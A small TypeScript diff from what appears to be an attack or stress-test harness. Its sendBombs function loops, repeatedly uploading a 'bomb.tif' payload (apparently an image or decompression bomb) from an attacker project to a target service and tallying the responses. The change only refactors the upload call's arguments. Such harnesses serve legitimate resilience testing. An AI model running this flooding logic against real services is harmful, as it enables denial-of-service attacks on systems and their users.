@@ -62,7 +62,12 @@ async function sendBombs(target: AttackTarget, until: () => number): Promise<Out
   const agent = createKeepAliveAgent(4)
   const sender = async (): Promise<void> => {
     while (performance.now() < until_ms) {
-      const sent = await uploadFile(client, attacker.project, 'bomb.tif', bomb, until_ms).catch(
+      const sent = await uploadFile(client, {
+        project_id: attacker.project,
+        file_name: 'bomb.tif',
+        bytes: bomb,
+        until_ms,
+      }).catch(
         (error: Error & { status?: number }) => void countOutcome(tally, error.status ?? error.message.slice(0, 60)),
       )
       if (!sent) continue
